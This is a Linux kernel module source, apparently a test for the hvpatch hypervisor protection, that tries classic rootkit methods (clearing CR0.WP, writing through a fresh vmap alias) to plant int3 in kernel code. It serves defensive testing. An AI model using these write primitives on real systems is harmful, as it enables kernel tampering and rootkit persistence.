// SPDX-License-Identifier: GPL-2.0
/*
 * hvp_attack.ko: what a rootkit does to kernel text, for the demo and the
 * attacker's-view tests.  It is meant to fail: under hvpatch every attempt
 * is stopped (#GP in the guest, a log line and a count in the hypervisor).
 *
 *   mode=cr0     clear CR0.WP, then write the target through its own
 *                mapping (the classic way past write protection)
 *   mode=alias   map the target's physical page again, writable, with
 *                vmap(), and write through that alias
 *   mode=arena   write into the hvpatch arena (arena_addr=, its
 *                guest-virtual address from hvpatchctl status) through a
 *                fresh alias of its physical page
 *
 * target_addr= is a kernel function's address (from /proc/kallsyms),
 * whose first byte the module tries to overwrite with int3.
 */
#include <asm/asm.h>
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/vmalloc.h>

static char *mode = "cr0";
module_param(mode, charp, 0444);
static unsigned long target_addr;
module_param(target_addr, ulong, 0444);
static unsigned long arena_addr;
module_param(arena_addr, ulong, 0444);

/*
 * Each attempt runs under an exception-table entry: when the hypervisor
 * answers with #GP, the module reports it and returns an error, instead
 * of oopsing with the module half loaded (which would block the next
 * insmod of it).  These return true if the instruction faulted.
 */
static bool faulting_write_cr0(unsigned long value)
{
	bool faulted = true;

	asm volatile("1: mov %[value], %%cr0\n\t"
		     "movb $0, %[faulted]\n"
		     "2:\n"
		     _ASM_EXTABLE(1b, 2b)
		     : [faulted] "+qm"(faulted) : [value] "r"(value) : "memory");
	return faulted;
}

static bool faulting_write_byte(u8 *where, u8 value)
{
	bool faulted = true;

	asm volatile("1: movb %[value], %[where]\n\t"
		     "movb $0, %[faulted]\n"
		     "2:\n"
		     _ASM_EXTABLE(1b, 2b)
		     : [faulted] "+qm"(faulted), [where] "=m"(*where)
		     : [value] "q"(value) : "memory");
	return faulted;
}

static bool write_with_wp_clear(u8 *where)
{
	unsigned long cr0;

	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	pr_info("hvp_attack: clearing CR0.WP (cr0 %#lx)\n", cr0);
	/* Straight to the register: native_write_cr0() would put WP back. */
	if (faulting_write_cr0(cr0 & ~X86_CR0_WP)) {
		pr_info("hvp_attack: clearing CR0.WP faulted (#GP): blocked\n");
		return false;
	}
	pr_info("hvp_attack: CR0.WP cleared, writing %px\n", where);
	if (faulting_write_byte(where, 0xcc)) {
		faulting_write_cr0(cr0);
		pr_info("hvp_attack: the write faulted: blocked\n");
		return false;
	}
	faulting_write_cr0(cr0);
	return true;
}

static bool write_through_alias(phys_addr_t phys)
{
	struct page *page = pfn_to_page(phys >> PAGE_SHIFT);
	u8 *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	bool faulted;

	if (!alias) {
		pr_err("hvp_attack: vmap failed\n");
		return false;
	}
	pr_info("hvp_attack: writing phys %pa through a fresh writable alias %px\n",
		&phys, alias + offset_in_page(phys));
	faulted = faulting_write_byte(alias + offset_in_page(phys), 0xcc);
	vunmap(alias);
	if (faulted)
		pr_info("hvp_attack: the write faulted (#GP): blocked\n");
	return !faulted;
}

static int __init hvp_attack_init(void)
{
	bool written;

	if (!strcmp(mode, "cr0") && target_addr)
		written = write_with_wp_clear((u8 *)target_addr);
	else if (!strcmp(mode, "alias") && target_addr)
		written = write_through_alias(__pa_symbol(target_addr));
	else if (!strcmp(mode, "arena") && arena_addr)
		written = write_through_alias(page_to_phys(vmalloc_to_page((void *)arena_addr)) +
					      offset_in_page(arena_addr));
	else
		return -EINVAL;
	if (written) {
		pr_err("hvp_attack: WRITE SUCCEEDED (mode %s): kernel text is NOT protected\n",
		       mode);
		return -EEXIST;
	}
	/* Never stays loaded: it exists only to try. */
	return -EPERM;
}

module_init(hvp_attack_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hvpatch test: attempts to write protected kernel memory");
